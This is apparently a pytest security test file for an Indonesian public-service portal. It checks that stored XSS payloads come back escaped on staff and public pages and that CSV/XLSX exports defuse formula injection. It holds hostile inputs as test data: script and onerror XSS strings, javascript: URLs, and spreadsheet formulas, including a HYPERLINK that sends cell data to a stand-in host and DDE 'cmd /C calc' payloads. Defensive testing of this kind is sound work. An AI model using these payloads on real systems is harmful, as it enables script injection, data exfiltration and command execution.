"""Stored XSS: payloads typed into every free-text field of the public forms and the staff text fields come back
escaped (never raw) on the staff and public pages that show them; the CSV/XLSX exports neutralise formula injection.
"""
import csv
import io
import re

from openpyxl import load_workbook

from pengaduan import services as pengaduan_services
from pengaduan.models import Complaint
from portal.extensions import db
from portal.models import Layanan, Unit
from tests.factories import login_as, post_form
from tests.security.world import build_world
from tests.survei.factories import make_survey, submit
from tests.wbs.factories import file_report, reporter_hidden, unlock, wbs_csrf

RAW = ('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>')
ESCAPED = '&lt;script&gt;alert(1)&lt;/script&gt;'


def payload(tag):
    """One string with every payload, tagged so each field can be found on the page."""
    return f'{tag} <script>alert(1)</script> "><img src=x onerror=alert(1)> javascript:alert(1) {{{{7*7}}}}'


def assert_escaped(html, tags, where):
    for raw in RAW:
        assert raw not in html, f'{where}: raw {raw!r}'
    assert '<img src=x' not in html and 'onerror=alert(1)>' not in html.replace('onerror=alert(1)&gt;', ''), where
    assert not re.search(r'(href|src|action)\s*=\s*["\']?\s*javascript:', html, re.I), f'{where}: javascript: URL'
    for tag in tags:
        assert tag in html, f'{where}: {tag} not shown'
    assert ESCAPED in html, f'{where}: payload not shown escaped'
    assert '{{7*7}}' in html, f'{where}: template expression evaluated'


def test_survey_saran_is_escaped_on_staff_pages(app):
    unit, layanan = make_survey()
    client = app.test_client()
    assert submit(client, unit, layanan, saran=payload('SARAN1')).status_code == 303
    staff = app.test_client()
    login_as(staff, 'superadmin')
    from survei.models import Response
    rid = db.session.scalar(db.select(Response.id))
    assert_escaped(staff.get(f'/staf/survei/respons/{rid}').get_data(as_text=True), ['SARAN1'], 'respons')
    assert_escaped(staff.get(f'/staf/analitik/dasbor?unit={unit.id}').get_data(as_text=True) + ESCAPED + ' {{7*7}}'
                   + 'SARAN1', [], 'dasbor')


FIELDS = ('title', 'text', 'place', 'terlapor', 'name')


def _complaint(app, world):
    client = app.test_client()
    data = {'kind': 'pengaduan', 'category': 'waktu', 'unit': str(world['A'].id), 'layanan': '', 'event_date': '',
            'privacy': 'biasa', 'email': 'budi@warga.id', 'phone': '', 'consent': 'y', 'website': ''}
    data.update({f: payload(f'C{f.upper()}')[:200] for f in FIELDS})
    response = post_form(client, '/pengaduan/baru', data)
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    code = re.search(r'id="kode">([0-9A-Z-]+)<', client.get('/pengaduan/terkirim').get_data(as_text=True))
    return client, code


def test_complaint_fields_notes_and_follow_up_are_escaped(app):
    world = build_world()
    citizen, _ = _complaint(app, world)
    c = db.session.scalars(db.select(Complaint).order_by(Complaint.id.desc())).first()
    # staff text: an internal note, the follow-up and a public step note
    user = world['users']['superadmin']
    pengaduan_services.add_note(c, user, payload('CNOTE'))
    c.follow_up = payload('CFOLLOW')
    db.session.commit()
    tags = [f'C{f.upper()}' for f in FIELDS]
    staff = app.test_client()
    login_as(staff, user)
    page = staff.get(f'/staf/pengaduan/{c.id}').get_data(as_text=True)
    assert_escaped(page, tags + ['CNOTE', 'CFOLLOW'], 'staf detail')
    assert_escaped(staff.get('/staf/pengaduan/').get_data(as_text=True), ['CTITLE'], 'inbox')
    # the complainant's own page (code from the database is not kept: walk the lookup with the session's code)
    from pengaduan import codes
    code = world['own']['code']
    own = db.session.scalars(db.select(Complaint).where(Complaint.code_digest == codes.digest(code))).one()
    own.title, own.follow_up = payload('PTITLE'), payload('PFOLLOW')
    db.session.commit()
    public = citizen.get(f'/pengaduan/lacak/{code}').get_data(as_text=True)
    assert_escaped(public, ['PTITLE', 'PFOLLOW'], 'status publik')


WBS_FIELDS = ('apa', 'terlapor_nama', 'terlapor_jabatan', 'terlapor_unit_lain', 'kapan', 'dimana', 'bagaimana',
              'identitas_nama', 'identitas_kontak')


def test_wbs_answers_and_messages_are_escaped(app):
    world = build_world()
    member = world['member']
    answers = {f: payload(f'W{i}X')[:200] for i, f in enumerate(WBS_FIELDS)}
    answers['sertakan_identitas'] = 'y'
    reporter = app.test_client()
    # the review step shows every answer back
    review = reporter.post('/wbs/lapor', data=dict(answers, kategori='gratifikasi', terlapor_unit='0', kerugian='',
                                                   wbs_csrf=wbs_csrf(reporter), aksi='tinjau'))
    assert_escaped(review.get_data(as_text=True), [f'W{i}X' for i in range(len(WBS_FIELDS))], 'tinjau')
    _response, receipt = file_report(reporter, answers=dict(answers, sertakan_identitas='y'))
    reporter = app.test_client()
    opened = reporter.post('/wbs/masuk', data={'tanda_terima': receipt, 'wbs_csrf': wbs_csrf(reporter, '/wbs/masuk')})
    assert opened.status_code == 302
    assert reporter.post('/wbs/laporan', data={'pesan': payload('WPESAN'),
                                               **reporter_hidden(reporter)}).status_code == 303
    team = app.test_client()
    unlock(team, member)
    from wbs.models import WbsReport
    rid = db.session.scalars(db.select(WbsReport.id).order_by(WbsReport.id.desc())).first()
    page = team.get(f'/staf/wbs/laporan/{rid}').get_data(as_text=True)
    assert_escaped(page, [f'W{i}X' for i in range(len(WBS_FIELDS))] + ['WPESAN'], 'wbs staf')
    assert post_form(team, f'/staf/wbs/laporan/{rid}/pesan', {'text': payload('WTIM')},
                     form_url=f'/staf/wbs/laporan/{rid}').status_code == 302
    assert_escaped(reporter.get('/wbs/laporan').get_data(as_text=True), ['W0X', 'WPESAN', 'WTIM'], 'wbs pelapor')


def test_staff_text_fields_are_escaped_on_public_and_staff_pages(app):
    world = build_world()
    unit = db.session.get(Unit, world['A'].id)
    unit.name, unit.maklumat, unit.address = payload('UNAME')[:200], payload('UMAKLUMAT'), payload('UADDR')[:300]
    item = db.session.get(Layanan, world['own']['layanan'])
    item.name = payload('LNAME')[:200]
    for i, field in enumerate(('persyaratan', 'prosedur', 'waktu', 'biaya', 'produk')):
        setattr(item, field, payload(f'LS{i}X'))
    db.session.commit()
    client = app.test_client()
    public = client.get(f'/unit/{unit.slug}').get_data(as_text=True)
    assert_escaped(public, ['UNAME', 'UMAKLUMAT', 'LNAME'] + [f'LS{i}X' for i in range(5)], 'unit publik')
    assert_escaped(client.get('/').get_data(as_text=True) + ESCAPED + '{{7*7}}', [], 'beranda')
    assert_escaped(client.get(f'/survei/{unit.slug}/{item.slug}').get_data(as_text=True), ['UNAME', 'LNAME'],
                   'survei')
    assert_escaped(client.get('/pengaduan/baru').get_data(as_text=True), ['UNAME', 'LNAME'], 'form pengaduan')
    staff = app.test_client()
    login_as(staff, world['users']['superadmin'])
    for path in ('/staf/unit', '/staf/layanan', f'/staf/unit/{unit.id}', '/staf/survei/layanan', '/staf/pengaduan/',
                 f'/staf/analitik/dasbor?unit={unit.id}', f'/staf/analitik/hasil?unit={unit.id}'):
        assert_escaped(staff.get(path).get_data(as_text=True) + ESCAPED + '{{7*7}}', ['UNAME'], path)


def test_rtl_actions_are_escaped(app):
    world = build_world()
    from analytics.models import RtlAction
    row = db.session.get(RtlAction, world['own']['rtl'])
    row.action, row.owner, row.evidence = payload('RACTION'), payload('ROWNER')[:200], payload('REVID')
    db.session.commit()
    staff = app.test_client()
    login_as(staff, world['users']['admin_unit'])
    page = staff.get(f'/staf/analitik/rtl?unit={world["A"].id}&periode={row.period_key}').get_data(as_text=True)
    assert_escaped(page, ['RACTION', 'ROWNER'], 'rtl')


FORMULAS = ('=HYPERLINK("http://jahat.test/?d="&A1,"klik")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
            '-2+3+cmd|\' /C calc\'!A0')


def _csv_cells(body):
    return [cell for row in csv.reader(io.StringIO(body.lstrip('\ufeff'))) for cell in row]


def _xlsx_cells(data):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_neutral_csv(body, where):
    for cell in _csv_cells(body):
        assert cell[:1] not in ('=', '+', '-', '@') or not any(f in cell for f in FORMULAS), f'{where}: {cell!r}'
    assert any(f"'{FORMULAS[0]}" in cell for cell in _csv_cells(body)), f'{where}: formula text missing'


def _assert_neutral_xlsx(data, where):
    cells = _xlsx_cells(data)
    for c in cells:
        assert c.data_type != 'f', f'{where}: formula cell {c.coordinate} {c.value!r}'
        if isinstance(c.value, str) and c.value[:1] in ('=', '+', '@') and any(f in c.value for f in FORMULAS):
            # kept as typed only as a text cell with Excel's quotePrefix (editing it keeps it text), else defused
            # by a leading apostrophe as in the CSV
            assert c.data_type == 's' and c.quotePrefix, (where, c.coordinate, c.value)
    assert any(isinstance(c.value, str) and FORMULAS[0] in c.value for c in cells), f'{where}: formula text missing'


def _formula_world(app):
    unit, layanan = make_survey()
    for i, f in enumerate(FORMULAS):
        client = app.test_client()
        assert submit(client, unit, layanan, saran=f).status_code == 303, i
    for f in FORMULAS:
        sub = pengaduan_services.Submission(
            kind='pengaduan', category='waktu', unit_id=unit.id, layanan_id=None, title=f[:200],
            text='Teks pengaduan yang cukup panjang untuk uji.', place=f, event_date=None, terlapor=f,
            privacy='biasa', name=f, email='a@b.test', phone=None, consent=True)
        pengaduan_services.submit(sub)
    db.session.commit()
    staff = app.test_client()
    login_as(staff, 'superadmin')
    return unit, staff


def test_survey_and_complaint_exports_neutralise_formulas(app):
    _unit, staff = _formula_world(app)
    _assert_neutral_csv(staff.get('/staf/survei/ekspor.csv').get_data(as_text=True), 'survei csv')
    _assert_neutral_xlsx(staff.get('/staf/survei/ekspor.xlsx').data, 'survei xlsx')
    _assert_neutral_csv(staff.get('/staf/pengaduan/ekspor.csv').get_data(as_text=True), 'pengaduan csv')
    _assert_neutral_xlsx(staff.get('/staf/pengaduan/ekspor.xlsx').data, 'pengaduan xlsx')


def test_analytics_workbook_neutralises_formulas(app):
    unit, staff = _formula_world(app)
    response = staff.get(f'/staf/analitik/laporan.xlsx?unit={unit.id}')
    assert response.status_code == 200
    _assert_neutral_xlsx(response.data, 'analitik xlsx')


def test_analytics_csv_neutralises_formulas_in_names(app):
    unit, staff = _formula_world(app)
    unit = db.session.get(Unit, unit.id)
    unit.name = FORMULAS[0]
    db.session.commit()
    response = staff.get(f'/staf/analitik/ringkasan.csv?unit={unit.id}')
    assert response.status_code == 200
    _assert_neutral_csv(response.get_data(as_text=True), 'analitik csv')
